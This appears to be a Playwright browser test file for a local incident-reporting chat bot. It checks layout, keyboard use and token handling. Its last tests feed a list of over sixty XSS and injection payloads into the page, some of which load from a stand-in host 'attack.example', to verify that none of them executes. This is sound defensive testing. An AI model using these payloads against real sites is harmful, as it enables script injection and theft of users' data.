@@ -1,0 +1,621 @@
+"""The local page in a real browser, before the real program. Needs Chromium and Playwright.
+
+Set `LOTSE_SCREENSHOTS` to a folder to keep the pictures that the stories take.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import re
+import shutil
+import sys
+import tempfile
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+
+try:
+    from playwright.async_api import Browser, Page, async_playwright, expect
+except ImportError:
+    pytest.skip("The page is not tried out: Playwright is missing.", allow_module_level=True)
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+if CHROMIUM is None:
+    pytest.skip("The page is not tried out: Chromium is missing.", allow_module_level=True)
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+ROOT = Path(__file__).parent.parent
+LAUNCH = (
+    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+)  # fmt: skip
+WAIT = 8000  # milliseconds; nothing takes that long unless it is broken
+LANGUAGES = ("de", "en")
+WIDE, PHONE = (1280, 840), (360, 740)
+
+
+# --- the program and the browser -------------------------------------------------------
+
+
+@asynccontextmanager
+async def running(data: Path, *options: str) -> AsyncIterator[str]:
+    """Start `python -m bot` on a free port; give the address that it prints."""
+    env = {name: value for name, value in os.environ.items() if not name.startswith("LOTSE_")}
+    env |= {"PORT": "0", "LOTSE_DATA": str(data), "PYTHONUNBUFFERED": "1"}
+    with tempfile.TemporaryFile() as log:
+        program = await asyncio.create_subprocess_exec(
+            sys.executable, "-m", "bot", *options, cwd=ROOT, env=env,
+            stdout=asyncio.subprocess.PIPE, stderr=log,
+        )  # fmt: skip
+        try:
+            yield await address(program)
+        finally:
+            if program.returncode is None:
+                program.terminate()
+            async with asyncio.timeout(15):
+                await program.communicate()
+            log.seek(0)
+            logged = log.read().decode()
+    assert (program.returncode, logged) == (0, "")
+
+
+async def address(program: asyncio.subprocess.Process) -> str:
+    """Return the address with the token, from what the program prints at the start."""
+    assert program.stdout is not None
+    async with asyncio.timeout(60):
+        while text := (await program.stdout.readline()).decode():
+            if found := re.search(r"http://\S+#token=\S+", text):
+                return found[0]
+    raise AssertionError("The program ended without printing an address.")
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def browser() -> AsyncIterator[Browser]:
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=list(LAUNCH))
+        yield browser
+        await browser.close()
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def empty(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[str]:
+    """The address of a program without an example company, shared by the small tests."""
+    async with running(tmp_path_factory.mktemp("empty"), "--empty") as address:
+        yield address
+
+
+@dataclass(slots=True)
+class Client:
+    """Somebody before the page. Whatever goes wrong in the page fails the test at the end."""
+
+    page: Page
+    base: str
+    pictures: Path
+    wrong: list[str] = field(default_factory=list)
+
+    def watch(self) -> None:
+        """Note errors, dialogs of scripts, and requests that leave."""
+        self.page.on("pageerror", lambda error: self.wrong.append(f"script: {error}"))
+        self.page.on("dialog", lambda dialog: self.wrong.append(f"dialog: {dialog.message}"))
+        self.page.on("console", lambda said: self._unless(said.type == "log", said.text))
+        self.page.on(
+            "request",
+            lambda request: self._unless(request.url.startswith(self.base), request.url),
+        )
+
+    def _unless(self, fine: bool, words: str) -> None:
+        if not fine:
+            self.wrong.append(words)
+
+    async def open(self, address: str) -> None:
+        """Open the printed address."""
+        await self.page.goto(address)
+        await expect(self.page.locator(".log > *").first).to_be_visible()
+
+    async def be(self, person: str) -> None:
+        """Switch to somebody."""
+        row = self.page.locator(f'.persons [data-key="{person}"] button')
+        await row.click()
+        await expect(row).to_have_attribute("aria-pressed", "true")
+        await expect(self.page.locator(".log > *").first).to_be_visible()
+
+    async def go(self, place: str) -> None:
+        """Open a channel, or with "@" the own direct place."""
+        kind = '[data-key^="local:@"]' if place == "@" else f'[data-key="local:{place}"]'
+        row = self.page.locator(f".places {kind} button")
+        await row.click()
+        await expect(row).to_have_attribute("aria-current", "page")
+
+    async def say(self, text: str) -> None:
+        """Type something and send it."""
+        box = self.page.locator(".box")
+        await box.fill(text)
+        await box.press("Escape")
+        await box.press("Enter")
+        await expect(box).to_have_value("")
+
+    async def press(self, call: str, within: str = ".line") -> None:
+        """Press the newest button that does `call`."""
+        await self.page.locator(f'{within} [data-call="{call}"]').last.click()
+
+    async def wind(self, by: str) -> None:
+        """Wind the clock, and wait until everything has happened."""
+        button = self.page.locator(f'[data-by="{by}"]')
+        async with self.page.expect_response("**/page/api/wind") as response:
+            await button.click()
+        assert (await response.value).ok
+        await expect(button).to_be_enabled()
+
+    async def language(self, language: str) -> None:
+        """Let everybody read this language, by the dialog."""
+        await self.page.locator(".side footer .sidebutton").first.click()
+        await self.page.locator("#company-language").select_option(language)
+        await self.page.locator("dialog [type=submit]").click()
+        await expect(self.page.locator("dialog")).to_have_count(0)
+        await expect(self.page.locator("html")).to_have_attribute("lang", language)
+
+    async def picture(self, name: str) -> None:
+        """Keep what the page looks like."""
+        await self.page.screenshot(path=self.pictures / f"{name}.png")
+
+
+@asynccontextmanager
+async def client(
+    browser: Browser, address: str, pictures: Path, *,
+    size: tuple[int, int] = WIDE, dark: bool = False, opens: bool = True,
+) -> AsyncIterator[Client]:  # fmt: skip
+    """Open a browser window of its own."""
+    context = await browser.new_context(
+        viewport={"width": size[0], "height": size[1]},
+        color_scheme="dark" if dark else "light",
+        reduced_motion="reduce",
+        locale="en-GB",
+    )
+    context.set_default_timeout(WAIT)
+    found = Client(await context.new_page(), address.partition("#")[0], pictures)
+    found.watch()
+    if opens:
+        await found.open(address)
+    yield found
+    await context.close()
+    assert not found.wrong
+
+
+@pytest.fixture
+def pictures(tmp_path: Path) -> Path:
+    """Where pictures go."""
+    folder = Path(os.environ.get("LOTSE_SCREENSHOTS") or tmp_path)
+    folder.mkdir(parents=True, exist_ok=True)
+    return folder
+
+
+# --- the story of the first page of the README --------------------------------------------
+
+STORY = {
+    "de": {
+        "till": "störung Kasse Köln druckt nicht",
+        "shop": "störung Webshop zeigt nur eine weiße Seite",
+        "friction": "reibung Die Inventurliste wird von Hand abgetippt",
+        "feedback": "feedback Reparatur-Triage",
+        "digest": "wochenbericht",
+    },
+    "en": {
+        "till": "incident Kasse in Cologne does not print",
+        "shop": "incident Webshop shows nothing but a white page",
+        "friction": "friction The stocktaking list is typed by hand",
+        "feedback": "feedback Reparatur-Triage",
+        "digest": "digest",
+    },
+}
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+async def test_the_whole_story(
+    browser: Browser, tmp_path: Path, pictures: Path, language: str
+) -> None:
+    words = STORY[language]
+    async with running(tmp_path) as address, client(browser, address, pictures) as c:
+        await c.language(language)
+        public = c.page.locator(".line:not(.private)")
+        private = c.page.locator(".line.private:not(.mine)")
+        waiting = c.page.locator(".persons .badge")
+        channel = public.last
+        # Anna declares in one line; the card stands in the channel, Ben alone is alarmed.
+        await c.be("anna")
+        await c.go("stoerungen")
+        await c.say(words["till"])
+        await expect(channel).to_contain_text(words["till"].partition(" ")[2])
+        await expect(channel.locator(".tone-alarm")).to_be_visible()
+        await expect(private.last).to_contain_text("Ben")
+        await c.picture(f"{language}-1-declared")
+        # Ben looks after it, from his direct message; the card is edited in place.
+        await c.be("ben")
+        await c.go("@")
+        await c.press("ack", ".line:not(.private)")
+        await expect(private.last).to_be_visible()
+        await c.picture(f"{language}-2-acknowledged")
+        await c.go("stoerungen")
+        await expect(channel.locator(".tone-active")).to_be_visible()
+        await expect(channel.locator(".edited")).to_be_visible()
+        # The next one: nobody answers, so it climbs to Carla, and then to Chris.
+        await c.be("anna")
+        await c.go("stoerungen")
+        await c.say(words["shop"])
+        await expect(channel).to_contain_text(words["shop"].partition(" ")[2])
+        await c.wind("10min")
+        await expect(waiting.first).to_be_visible()
+        await c.be("carla")
+        await c.go("@")
+        await expect(public.last).to_contain_text(words["shop"].partition(" ")[2])
+        await expect(public.last.locator(".tone-alarm")).to_be_visible()
+        await c.picture(f"{language}-3-climbed")
+        await c.press("ack", ".line:not(.private)")
+        await expect(private.last).to_be_visible()
+        # A friction, and a tap for the pilot.
+        await c.be("anna")
+        await c.go("allgemein")
+        await c.say(words["friction"])
+        await expect(private.last).to_contain_text(words["friction"].partition(" ")[2])
+        await c.say(words["feedback"])
+        await c.press("relief")
+        await expect(private).to_have_count(3)
+        await c.picture(f"{language}-4-friction-and-pilot")
+        # On Monday Chris reads what came back and what nobody uses.
+        await c.wind("monday")
+        await c.be("chris")
+        await c.go("@")
+        await expect(public.last).to_contain_text("Etikettendrucker")
+        await expect(public.last).to_contain_text("Rechnungsabgleich")
+        await expect(public.last).to_contain_text("Lieferschein-Export")
+        await public.last.scroll_into_view_if_needed()
+        await c.picture(f"{language}-5-monday")
+        await c.go("leitung")
+        await expect(public.last).to_contain_text("Etikettendrucker")
+        # Everything is still there after a reload, as the same person in the same place.
+        before = await c.page.locator(".log").inner_text()
+        await c.page.reload()
+        await expect(c.page.locator(".log > *").first).to_be_visible()
+        assert await c.page.locator(".log").inner_text() == before
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
+@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["wide", "phone"])
+async def test_nothing_sticks_out(
+    browser: Browser, empty: str, pictures: Path, language: str, dark: bool, size: tuple[int, int]
+) -> None:
+    name = f"{language}-{'dark' if dark else 'light'}-{size[0]}"
+    async with client(browser, empty, pictures, size=size, dark=dark) as c:
+        phone = size == PHONE
+        if phone:
+            await c.page.locator(".menu").click()
+            await expect(c.page.locator(".side")).to_be_in_viewport()
+            await c.picture(f"{name}-drawer")
+        await c.language(language)
+        if phone:
+            await c.page.keyboard.press("Escape")
+        await c.say("incident " + "Rindfleischetikettierungsüberwachungsaufgaben" * 4)
+        await c.say("help")
+        await expect(c.page.locator(".line.private:not(.mine)").last).to_be_visible()
+        for _each in range(2):
+            width = await c.page.evaluate("document.scrollingElement.scrollWidth")
+            assert width <= size[0]
+            sticking = await c.page.evaluate(
+                """() => [...document.querySelectorAll('.main *')].filter((each) => {
+                    const { left, right, width } = each.getBoundingClientRect();
+                    return width && (right > innerWidth + 1 || left < -1)
+                        && !each.closest('.unseen');
+                }).map((each) => each.className)"""
+            )
+            assert sticking == []
+            await c.picture(name)
+            await c.say("incident")
+            await expect(c.page.locator("dialog")).to_be_visible()
+            await c.picture(f"{name}-form")
+            await c.page.keyboard.press("Escape")
+
+
+# --- how it is used ------------------------------------------------------------------
+
+
+async def test_commands_are_completed_by_the_keyboard(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    async with client(browser, empty, pictures) as c:
+        await c.language("en")
+        box, proposals = c.page.locator(".box"), c.page.locator(".proposal")
+        await box.press_sequentially("stör")  # the German word, too
+        await expect(proposals.first).to_contain_text("incident")
+        await c.picture("completion")
+        await box.press("Tab")
+        await expect(box).to_have_value("incident ")
+        await expect(proposals).to_have_count(0)
+        await expect(c.page.locator("#box-hint b")).to_contain_text("incident <")
+        await box.fill("")
+        await box.press_sequentially("inc")
+        await box.press("ArrowDown")
+        await expect(proposals.nth(1)).to_have_attribute("aria-selected", "true")
+        await expect(box).to_have_attribute("aria-activedescendant", "proposal-1")
+        await box.press("Enter")
+        await expect(box).to_have_value("incidents ")
+        await box.press("Enter")
+        await expect(box).to_have_value("")
+        await box.press_sequentially("line one")
+        await box.press("Shift+Enter")
+        await box.press_sequentially("line two")
+        await expect(box).to_have_value("line one\nline two")
+
+
+async def test_a_form_shows_its_errors_and_keeps_what_was_typed(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    async with client(browser, empty, pictures) as c:
+        await c.be("chris")
+        await c.say("service new")
+        dialog = c.page.locator("dialog")
+        await dialog.locator("input[type=text]").first.fill("Förderband")
+        await dialog.locator("[type=submit]").click()
+        wrong = dialog.locator(".error:not(:empty)")
+        await expect(wrong.first).to_be_visible()
+        await expect(dialog.locator("input[type=text]").first).to_have_value("Förderband")
+        await c.picture("form-error")
+        await c.page.keyboard.press("Escape")
+        await expect(dialog).to_have_count(0)
+        await c.say("service new")  # closed by mistake: it is all still there
+        await expect(dialog.locator("input[type=text]").first).to_have_value("Förderband")
+        people = dialog.locator("select")
+        await people.nth(0).select_option("ben")
+        await people.nth(1).select_option("carla")
+        await dialog.locator("[type=submit]").click()
+        await expect(dialog).to_have_count(0)
+        await expect(c.page.locator(".line.private").last).to_contain_text("Förderband")
+
+
+async def test_two_pages_see_the_same_live(browser: Browser, empty: str, pictures: Path) -> None:
+    async with (
+        client(browser, empty, pictures) as one,
+        client(browser, empty, pictures) as other,
+    ):
+        await other.be("ben")
+        await other.go("stoerungen")
+        await one.be("anna")
+        await one.go("stoerungen")
+        await one.say("incident Schranke klemmt, zwei Fenster")
+        card = other.page.locator(".line:not(.private)").last
+        await expect(card).to_contain_text("Schranke klemmt, zwei Fenster")
+        spoken = other.page.locator("#spoken")
+        await expect(spoken).to_contain_text("Schranke klemmt, zwei Fenster")
+        await one.press("serious", ".line:not(.private)")
+        await expect(card.locator(".edited")).to_be_visible()
+
+
+async def test_what_could_not_be_sent_stays_in_the_box_and_counts_once(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    async with client(browser, empty, pictures) as c:
+        await c.be("anna")
+        await c.go("stoerungen")
+        cut = True
+
+        async def perhaps(route: object) -> None:
+            nonlocal cut
+            if cut:  # it arrives, but the answer is lost
+                cut = False
+                await route.fetch()  # type: ignore[attr-defined]
+                await route.abort()  # type: ignore[attr-defined]
+            else:
+                await route.continue_()  # type: ignore[attr-defined]
+
+        await c.page.route("**/page/api/say", perhaps)
+        box = c.page.locator(".box")
+        await box.fill("incident Rolltor geht nicht zu")
+        await box.press("Enter")
+        await expect(c.page.locator(".boxtrouble")).not_to_be_empty()
+        await expect(box).to_have_value("incident Rolltor geht nicht zu")
+        await c.picture("not-sent")
+        await box.press("Enter")
+        await expect(box).to_have_value("")
+        cards = c.page.locator(".line:not(.private)", has_text="Rolltor")
+        await expect(cards).to_have_count(1)
+        await expect(c.page.locator(".line.mine", has_text="Rolltor")).to_have_count(1)
+        c.wrong.clear()  # the browser's note about the request that we cut
+
+
+async def test_without_the_key_the_page_says_what_to_do(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    base = empty.partition("#")[0]
+    async with client(browser, empty, pictures, opens=False) as c:
+        for bad in (base, f"{base}#token=from-yesterday"):
+            await c.page.goto("about:blank")
+            await c.page.goto(bad)
+            await expect(c.page.locator("#gate")).to_be_visible()
+            await expect(c.page.locator("#gate")).to_contain_text("Terminal")
+            await expect(c.page.locator("#app")).to_be_hidden()
+        await c.picture("gate")
+        c.wrong.clear()  # the browser's note about the 401, and about:blank
+        await c.page.goto(empty)  # the right one, in the same tab
+        await expect(c.page.locator(".log > *").first).to_be_visible()
+        assert "token" not in c.page.url
+
+
+async def test_the_token_is_in_no_address_that_the_server_sees(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    token = empty.partition("#token=")[2]
+    async with client(browser, empty, pictures, opens=False) as c:
+        seen: list[str] = []
+        c.page.on("request", lambda request: seen.append(request.url.partition("#")[0]))
+        await c.open(empty)
+        await c.say("help")
+        assert seen
+        assert not [url for url in seen if token in url]
+
+
+async def test_everything_is_reached_by_the_keyboard(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    async with client(browser, empty, pictures) as c:
+        await c.be("carla")
+        await c.go("allgemein")
+        reached: set[str] = set()
+        for _each in range(60):
+            await c.page.keyboard.press("Tab")
+            found = await c.page.evaluate(
+                "(() => { const e = document.activeElement;"
+                " return e.dataset.by || e.dataset.language || e.className || e.tagName; })()"
+            )
+            reached.add(found.split(" ")[0])
+        wanted = {"person", "place", "sidebutton", "10min", "1h", "monday", "de", "en", "box", "go"}
+        assert wanted <= reached
+
+
+# --- nothing that is typed is ever more than text ---------------------------------------
+
+TAGS = (
+    "<script>pwned=1</script>",
+    "<script src=//attack.example/x.js></script>",
+    "<img src=x onerror=pwned=1>",
+    "<img src=//attack.example/i.png>",
+    "<svg onload=pwned=1>",
+    "<svg><script>pwned=1</script></svg>",
+    "<body onload=pwned=1>",
+    "<iframe src=javascript:pwned=1>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+    "<object data=//attack.example/o>",
+    "<embed src=//attack.example/e>",
+    "<link rel=stylesheet href=//attack.example/c.css>",
+    "<style>@import '//attack.example/c.css'</style>",
+    "<base href=//attack.example/>",
+    "<meta http-equiv=refresh content='0;url=//attack.example/'>",
+    "<a href=javascript:pwned=1>x</a>",
+    "<form action=//attack.example/><button>x</form>",
+    "<input autofocus onfocus=pwned=1>",
+    "<select autofocus onfocus=pwned=1>",
+    "<textarea autofocus onfocus=pwned=1>",
+    "<details open ontoggle=pwned=1>",
+    "<video src=x onerror=pwned=1>",
+    "<audio src=x onerror=pwned=1>",
+    "<video><source onerror=pwned=1></video>",
+    "<marquee onstart=pwned=1>",
+    "<math><mi xlink:href=javascript:pwned=1>",
+    "<template><script>pwned=1</script></template>",
+    "<dialog open onclose=pwned=1>x</dialog>",
+    "<p style=background:url(//attack.example/b)>",
+    "<x onclick=pwned=1 tabindex=1>",
+)
+BREAKS = (
+    '"><script>pwned=1</script>',
+    "'><img src=x onerror=pwned=1>",
+    "</textarea><script>pwned=1</script>",
+    "</script><script>pwned=1</script>",
+    "--><script>pwned=1</script>",
+    "]]><script>pwned=1</script>",
+    '" onmouseover="pwned=1',
+    "' onfocus='pwned=1' autofocus='",
+    "`${pwned=1}`",
+    "${pwned=1}",
+    "{{pwned=1}}",
+    "#{pwned=1}",
+    "<%= pwned=1 %>",
+    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
+    "&lt;script&gt;pwned=1&lt;/script&gt;",
+    "&#60;script&#62;pwned=1",
+    "%3Cscript%3Epwned=1%3C/script%3E",
+    "+ADw-script+AD4-pwned=1",
+    "<scr<script>ipt>pwned=1</scr</script>ipt>",
+    "<SCRIPT>pwned=1</SCRIPT>",
+    "<script\n>pwned=1</script\n>",
+    "<img/src=x/onerror=pwned=1>",
+    "<<script>pwned=1//<</script>",
+    "javascript:pwned=1",
+    "JaVaScRiPt:pwned=1",
+    "data:text/html,<script>pwned=1</script>",
+    "vbscript:pwned=1",
+    "__proto__",
+    "constructor",
+    '{"parts":[]}',
+    '{"who":"ben","name":"<b>"}',
+    "{name} {0} %s %(name)s",
+    "<@U123> <!channel> [x](javascript:pwned=1)",
+    "*b* _i_ ~s~ `c`",
+    "\u202etxt.exe\u202c",
+    "a\u0000b\u0007c",
+    "\U0001f680 لا \u200b\u2066<b>\u2069",
+)
+PAYLOADS = TAGS + BREAKS
+
+
+async def test_no_payload_runs_and_nothing_leaves(
+    browser: Browser, tmp_path: Path, pictures: Path
+) -> None:
+    assert len(PAYLOADS) >= 60
+    async with running(tmp_path, "--empty") as address, client(browser, address, pictures) as c:
+        await c.be("anna")
+        await c.go("stoerungen")
+        for position, payload in enumerate(PAYLOADS):
+            verb = ("incident ", "friction ", "")[position % 3]
+            await c.say(verb + payload)
+            await expect(c.page.locator(".line.mine").last).to_be_visible()
+        await c.say("incident")
+        dialog = c.page.locator("dialog")
+        await dialog.locator("textarea").fill("".join(PAYLOADS)[:2900])
+        await dialog.locator("[type=submit]").click()
+        await expect(dialog).to_have_count(0)
+        # Names are free text, too.
+        await c.page.locator(".side footer .sidebutton").first.click()
+        for position, name in enumerate(await dialog.locator("input[type=text]").all()):
+            await name.fill(PAYLOADS[position][:60])
+        await dialog.locator("[type=submit]").click()
+        await expect(dialog).to_have_count(0)
+        await expect(c.page.locator(".persons .name").first).to_have_text(PAYLOADS[0])
+        await c.picture("payloads")
+        for person in ("ben", "carla", "chris"):
+            await c.be(person)
+            await c.go("@")
+        await c.page.reload()
+        await expect(c.page.locator(".log > *").first).to_be_visible()
+        await c.be("anna")
+        await c.go("stoerungen")
+        shown = await c.page.locator(".log").inner_text()
+        for payload in PAYLOADS[-30:]:
+            for piece in payload.replace("\u0000", "").replace("\u0007", "").split("\n"):
+                assert piece.strip() in shown, piece
+        assert await c.page.evaluate("typeof window.pwned") == "undefined"
+        foreign = await c.page.evaluate(
+            """() => [...document.querySelectorAll('body *')].filter((each) =>
+                ['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'BASE', 'META',
+                 'VIDEO', 'AUDIO', 'MARQUEE', 'DETAILS', 'TEMPLATE', 'MATH'].includes(each.tagName)
+                && !each.closest('.gate') || [...each.attributes].some((a) => /^on/.test(a.name))
+            ).map((each) => each.outerHTML)"""
+        )
+        assert foreign == []
+
+
+async def test_the_policy_of_the_page_would_stop_a_script_anyway(
+    browser: Browser, empty: str, pictures: Path
+) -> None:
+    async with client(browser, empty, pictures) as c:
+        ran = await c.page.evaluate(
+            """async () => {
+                const script = document.createElement('script');
+                script.textContent = 'window.pwned = 1';
+                document.body.append(script);
+                const image = document.createElement('img');
+                const told = new Promise((done) => { image.onload = () => done('loaded');
+                    image.onerror = () => done('stopped'); });
+                image.src = 'http://127.0.0.1:9/x.png';
+                const sent = await fetch('http://127.0.0.1:9/', { mode: 'no-cors' })
+                    .then(() => 'sent', () => 'stopped');
+                return [typeof window.pwned, await told, sent];
+            }"""
+        )
+        assert ran == ["undefined", "stopped", "stopped"]
+        assert len(c.wrong) >= 3
+        c.wrong.clear()  # we did it ourselves
